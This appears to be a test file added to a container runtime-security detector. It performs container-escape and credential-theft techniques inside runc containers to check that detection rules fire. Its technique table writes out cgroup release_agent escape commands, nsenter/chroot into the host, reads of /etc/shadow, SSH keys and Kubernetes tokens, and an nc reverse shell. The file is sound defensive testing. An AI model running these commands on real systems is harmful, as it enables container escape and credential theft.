@@ -1,0 +1,296 @@
+// The default rule pack against real attacks: each technique is done for real inside a runc
+// container (busybox, plus the static helpers of detect-harness.ts), and the rule written for it
+// must fire with the container's id and the acting process's lineage (exe and parent) within one
+// second of the event. The pipeline is the daemon's: live sensor, process and container enrichers,
+// RuleSet.load(rules/) and the Detector.
+import assert from 'node:assert/strict';
+import { spawn } from 'node:child_process';
+import { once } from 'node:events';
+import { createServer, type Server } from 'node:net';
+import { mkdtempSync, realpathSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import type { RuleMatch } from '../../daemon/detect/types.js';
+import { RUNC, runcMissing, startContainer, type Container, type ContainerOptions } from '../runc.js';
+import { BPF, assertPrerequisites } from './harness.js';
+import { DetectHarness, HELPER_MOUNT, buildHelpers, helperMount, lineage, plant, type Helpers } from './detect-harness.js';
+
+const ACT = `${HELPER_MOUNT}/vigil-act`;
+const TECH = `${HELPER_MOUNT}/vigil-tech`;
+/** From the event to the match reaching the test. */
+const LATENCY_MS = 1000;
+
+/** `runc exec` without blocking the event loop (the sensor keeps draining while the action runs). */
+function execAsync(c: Container, args: string[], timeoutMs = 15000): Promise<{ code: number | null; out: string }> {
+  return new Promise((res, rej) => {
+    const p = spawn(RUNC, ['exec', c.id, ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
+    let out = '';
+    p.stdout.setEncoding('utf8').on('data', (d: string) => (out += d));
+    p.stderr.setEncoding('utf8').on('data', (d: string) => (out += d));
+    const t = setTimeout(() => p.kill('SIGKILL'), timeoutMs);
+    p.on('error', rej);
+    p.on('close', (code) => {
+      clearTimeout(t);
+      res({ code, out });
+    });
+  });
+}
+
+interface Technique {
+  name: string;
+  rule: string;
+  /** Which container does it. */
+  box: 'plain' | 'priv' | 'privhost' | 'hostnet';
+  args: string[];
+  /** The acting process's exe (the busybox binary for applets, a helper otherwise). */
+  exe: RegExp;
+  /** Extra check of the match (e.g. the path it names). */
+  check?: (m: RuleMatch) => void;
+  /** Runs around the action (servers, targets); returns the args to use. */
+  setup?: () => Promise<string[]> | string[];
+}
+
+describe('techniques raise their rules (real runc containers, default rule pack)', () => {
+  let h: DetectHarness;
+  let helpers: Helpers;
+  const boxes: Partial<Record<Technique['box'], Container>> = {};
+  let victim: Container | undefined;
+  let sockDir = '';
+  let sockServer: Server | undefined;
+  let shellServer: Server | undefined;
+  let shellPort = 0;
+  const busybox = /\/bin\/busybox$/;
+
+  before(async () => {
+    if (process.env.VIGIL_ALLOW_NO_BPF === '1' && BPF.skip) return;
+    assertPrerequisites();
+    const missing = runcMissing();
+    if (missing) throw new Error(`technique tests need runc: ${missing}`);
+    helpers = buildHelpers();
+    // A stand-in for the docker API socket on the host, bind-mounted into the plain container.
+    sockDir = realpathSync(mkdtempSync(join(tmpdir(), 'vgt-sock-')));
+    sockServer = createServer((s) => s.end());
+    sockServer.listen(join(sockDir, 'docker.sock'));
+    await once(sockServer, 'listening');
+    // The attacker's listener for the reverse shell: it gets a shell, keeps it a moment, exits it.
+    shellServer = createServer((s) => {
+      s.on('error', () => undefined);
+      setTimeout(() => s.end('exit\n'), 1500);
+    });
+    shellServer.listen(0, '127.0.0.1');
+    await once(shellServer, 'listening');
+    shellPort = (shellServer.address() as { port: number }).port;
+
+    h = await DetectHarness.start();
+    const base = (o: ContainerOptions): Container => startContainer({ args: ['sleep', '600'], ...o, mounts: [helperMount(helpers), ...(o.mounts ?? [])] });
+    boxes.plain = base({ mounts: [{ destination: '/run/docker.sock', source: join(sockDir, 'docker.sock') }] });
+    boxes.priv = base({ privileged: true });
+    boxes.privhost = base({ privileged: true, hostPid: true });
+    boxes.hostnet = base({ hostNet: true });
+    victim = startContainer({ args: ['sleep', '600'] });
+    const rootfs = join(boxes.plain.bundle, 'rootfs');
+    plant(rootfs, 'etc/shadow', 'root:$6$vigil$notarealhash:19000:0:99999:7:::\n');
+    plant(rootfs, 'root/.ssh/id_rsa', '-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n');
+    plant(rootfs, 'var/run/secrets/kubernetes.io/serviceaccount/token', 'eyJhbGciOiJSUzI1NiJ9.not-a-token\n');
+    plant(rootfs, 'var/lib/kubelet/pki/kubelet-client-current.pem', '-----BEGIN CERTIFICATE-----\n');
+  });
+
+  after(async () => {
+    for (const c of Object.values(boxes)) c?.delete();
+    victim?.delete();
+    await h?.stop();
+    sockServer?.close();
+    shellServer?.close();
+    if (sockDir) rmSync(sockDir, { recursive: true, force: true });
+    helpers?.remove();
+  });
+
+  const TECHNIQUES: Technique[] = [
+    {
+      name: 'mount a cgroup v1 hierarchy (privileged)', rule: 'Sensitive filesystem mounted in container', box: 'priv', exe: busybox,
+      args: ['sh', '-c', 'mkdir -p /tmp/cg && mount -t cgroup -o none,name=vgtcg cgroup /tmp/cg'],
+    },
+    {
+      name: 'write release_agent of that hierarchy', rule: 'Write to cgroup release_agent', box: 'priv', exe: busybox,
+      args: ['sh', '-c', 'echo /nonexistent-vigil-agent > /tmp/cg/release_agent'],
+      check: (m) => assert.match(m.message, /release_agent/),
+    },
+    {
+      name: 'the release_agent chain (mount, then write)', rule: 'Release agent escape chain', box: 'priv', exe: busybox,
+      args: ['sh', '-c', 'mkdir -p /tmp/cg2 && mount -t cgroup -o none,name=vgtcg2 cgroup /tmp/cg2 && echo /nonexistent-vigil-agent > /tmp/cg2/release_agent; umount /tmp/cg2'],
+    },
+    {
+      name: 'write notify_on_release', rule: 'Write to cgroup release_agent', box: 'priv', exe: busybox,
+      args: ['sh', '-c', 'mkdir -p /tmp/cg/x && echo 0 > /tmp/cg/x/notify_on_release; rmdir /tmp/cg/x; umount /tmp/cg'],
+      check: (m) => assert.match(m.message, /notify_on_release/),
+    },
+    {
+      name: 'write /proc/sys/kernel/core_pattern', rule: 'Write to kernel usermode helper from container', box: 'plain', exe: busybox,
+      args: ['sh', '-c', 'echo "|/tmp/x" > /proc/sys/kernel/core_pattern; true'],
+      check: (m) => assert.match(m.message, /core_pattern/),
+    },
+    {
+      name: 'write /proc/sys/kernel/modprobe', rule: 'Write to kernel usermode helper from container', box: 'plain', exe: busybox,
+      args: ['sh', '-c', 'echo /tmp/x > /proc/sys/kernel/modprobe; true'],
+      check: (m) => assert.match(m.message, /modprobe/),
+    },
+    {
+      name: 'write /proc/sysrq-trigger', rule: 'Write to sysrq-trigger from container', box: 'plain', exe: busybox,
+      args: ['sh', '-c', 'echo h > /proc/sysrq-trigger; true'],
+    },
+    {
+      name: 'write another /proc/sys tunable', rule: 'Write to /proc/sys from container', box: 'plain', exe: busybox,
+      args: ['sh', '-c', 'echo 1 > /proc/sys/vm/overcommit_memory; true'],
+    },
+    {
+      name: 'mount proc (privileged)', rule: 'Sensitive filesystem mounted in container', box: 'priv', exe: busybox,
+      args: ['sh', '-c', 'mkdir -p /tmp/p && mount -t proc proc /tmp/p && umount /tmp/p'],
+      check: (m) => assert.match(m.message, /^proc mounted/),
+    },
+    {
+      name: 'mount the host disk read-only (privileged)', rule: 'Host block device mounted in container', box: 'priv', exe: busybox,
+      args: ['sh', '-c', 'mkdir -p /tmp/disk && mount -o ro /dev/vda /tmp/disk; umount /tmp/disk 2>/dev/null; true'],
+    },
+    {
+      name: 'mknod a block device', rule: 'Block device node created in container', box: 'plain', exe: busybox,
+      args: ['sh', '-c', 'mknod /tmp/blk b 254 0; true'],
+    },
+    {
+      name: 'unshare user and mount namespaces', rule: 'User namespace with mount or cgroup namespace in container', box: 'plain', exe: busybox,
+      args: ['unshare', '-U', '-m', '-r', 'true'],
+    },
+    {
+      name: 'nsenter into the host mount namespace (host pid, privileged)', rule: 'Setns into host namespace from container', box: 'privhost', exe: busybox,
+      args: ['nsenter', '-t', '1', '-m', '--', '/bin/true'],
+    },
+    {
+      name: 'nsenter executed', rule: 'nsenter run in container', box: 'privhost', exe: busybox,
+      args: ['nsenter', '-t', '1', '-u', '--', '/bin/true'],
+    },
+    {
+      name: 'chroot into /proc/1/root', rule: 'Chroot into another process\'s root from container', box: 'privhost', exe: busybox,
+      args: ['chroot', '/proc/1/root', '/bin/true'],
+    },
+    {
+      name: 'read the host through /proc/1/root', rule: 'Traversal of another process\'s root from container', box: 'privhost', exe: busybox,
+      args: ['cat', '/proc/1/root/etc/hostname'],
+    },
+    {
+      name: 'connect to the docker socket', rule: 'Container runtime socket accessed from container', box: 'plain', exe: /\/opt\/vigil\/vigil-act$/,
+      args: [ACT, 'connect-unix', '/run/docker.sock'],
+    },
+    {
+      name: 'init_module', rule: 'Kernel module load from container', box: 'priv', exe: /\/opt\/vigil\/vigil-act$/,
+      args: [ACT, 'init-module'],
+    },
+    {
+      name: 'BPF_PROG_LOAD', rule: 'BPF program load from container', box: 'priv', exe: /\/opt\/vigil\/vigil-act$/,
+      args: [ACT, 'bpf-prog-load'],
+    },
+    {
+      name: 'ptrace attach', rule: 'Ptrace attach or poke in container', box: 'plain', exe: /\/opt\/vigil\/vigil-act$/,
+      args: [ACT, 'ptrace-attach'],
+    },
+    {
+      name: 'ptrace another container\'s process across pid namespaces', rule: 'Ptrace across pid namespaces', box: 'privhost', exe: /\/opt\/vigil\/vigil-tech$/,
+      args: [], setup: () => [TECH, 'ptrace-pid', String(victim!.pid)],
+    },
+    {
+      name: 'process_vm_writev', rule: 'Process memory written from container', box: 'plain', exe: /\/opt\/vigil\/vigil-tech$/,
+      args: [TECH, 'pvm-write'],
+    },
+    {
+      name: 'write /proc/<pid>/mem', rule: 'Write to process memory file', box: 'plain', exe: /\/opt\/vigil\/vigil-tech$/,
+      args: [TECH, 'mem-write'],
+    },
+    {
+      name: 'read /proc/kcore (privileged)', rule: 'Kernel memory read from container', box: 'priv', exe: busybox,
+      args: ['sh', '-c', 'head -c 16 /proc/kcore > /dev/null; true'],
+    },
+    {
+      name: 'memfd fileless exec', rule: 'Fileless execution in container', box: 'plain', exe: /memfd|vgl-fileless/,
+      args: ['sh', '-c', `${ACT} memfd-exec; true`],
+    },
+    {
+      name: 'execute from /dev/shm (privileged, shm remounted exec)', rule: 'Execution from /dev/shm or memory filesystem', box: 'priv', exe: /^\/dev\/shm\/sleep$/,
+      args: ['sh', '-c', 'mount -o remount,exec /dev/shm && cp /bin/busybox /dev/shm/sleep && /dev/shm/sleep 1'],
+    },
+    {
+      name: 'execute a binary dropped after start', rule: 'Drop and execute new binary in container', box: 'plain', exe: /^\/tmp\/sleep$/,
+      args: ['sh', '-c', 'cp /bin/busybox /tmp/sleep && /tmp/sleep 1'],
+    },
+    {
+      name: 'setuid program run by a non-root user (privileged: no no_new_privs)', rule: 'Setuid program raised privileges in container', box: 'priv', exe: /suid-tech$/,
+      args: [TECH, 'as-user', '1000', `${HELPER_MOUNT}/suid-tech`, 'sleep', '0.5'],
+    },
+    {
+      name: 'capabilities gained through that setuid program', rule: 'Capabilities gained in container', box: 'priv', exe: /suid-tech$/,
+      args: [TECH, 'as-user', '1000', `${HELPER_MOUNT}/suid-tech`, 'sleep', '0.5'],
+    },
+    {
+      name: 'effective uid back to root', rule: 'Non-root process became root in container', box: 'plain', exe: /\/opt\/vigil\/vigil-tech$/,
+      args: [TECH, 'uid-dance'],
+    },
+    {
+      name: 'io_uring_setup', rule: 'io_uring set up in container', box: 'plain', exe: /\/opt\/vigil\/vigil-act$/,
+      args: [ACT, 'io-uring-setup'],
+    },
+    {
+      name: 'userfaultfd', rule: 'userfaultfd set up in container', box: 'plain', exe: /\/opt\/vigil\/vigil-tech$/,
+      args: [TECH, 'uffd'],
+    },
+    {
+      name: 'read /etc/shadow', rule: 'Read of shadow file in container', box: 'plain', exe: busybox,
+      args: ['cat', '/etc/shadow'],
+    },
+    {
+      name: 'read an SSH private key', rule: 'Read of SSH keys in container', box: 'plain', exe: busybox,
+      args: ['cat', '/root/.ssh/id_rsa'],
+    },
+    {
+      name: 'read the service-account token', rule: 'Kubernetes service account token read by shell tool', box: 'plain', exe: busybox,
+      args: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
+    },
+    {
+      name: 'read kubelet PKI', rule: 'Kubelet or cluster PKI read from container', box: 'plain', exe: busybox,
+      args: ['cat', '/var/lib/kubelet/pki/kubelet-client-current.pem'],
+    },
+    {
+      name: 'reverse shell (nc -e /bin/sh to a listener)', rule: 'Reverse shell in container', box: 'hostnet', exe: busybox,
+      args: [], setup: () => ['nc', '127.0.0.1', String(shellPort), '-e', '/bin/sh'],
+    },
+  ];
+
+  for (const t of TECHNIQUES) {
+    test(`${t.name} -> ${t.rule}`, { ...BPF, timeout: 20000 }, async () => {
+      const c = boxes[t.box]!;
+      const args = t.setup ? await t.setup() : t.args;
+      const t0 = Date.now();
+      const r = await execAsync(c, args);
+      const t1 = Date.now();
+      const seen = await h.waitMatch(t.rule, (m) => m.container.id === c.id && m.time >= t0 - 5, Math.max(3000, LATENCY_MS + 2000)).catch((err: Error) => {
+        err.message += `\naction exit ${r.code}: ${r.out.trim().slice(0, 400)}`;
+        throw err;
+      });
+      const m = seen.match;
+      assert.equal(m.container.id, c.id);
+      assert.ok(m.time <= t1 + 5, `event time ${m.time} after the action ended ${t1}`);
+      assert.ok(seen.at - m.time <= LATENCY_MS, `match ${seen.at - m.time} ms after its event (limit ${LATENCY_MS})`);
+      const l = lineage(m);
+      assert.match(l.exe ?? '', t.exe, `exe of ${JSON.stringify(l)}`);
+      assert.ok(l.parentComm || l.parentExe, `no parent in the lineage: ${JSON.stringify(l)}`);
+      t.check?.(m);
+    });
+  }
+
+  test('a privileged container start raises the posture rule', BPF, async () => {
+    const c = boxes.priv!;
+    await h.waitMatch('Privileged container started', (m) => m.container.id === c.id, 3000);
+  });
+
+  test('a host-pid container start raises the host-namespace rule', BPF, async () => {
+    const c = boxes.privhost!;
+    await h.waitMatch('Container started in host pid, ipc or mount namespace', (m) => m.container.id === c.id, 3000);
+  });
+});
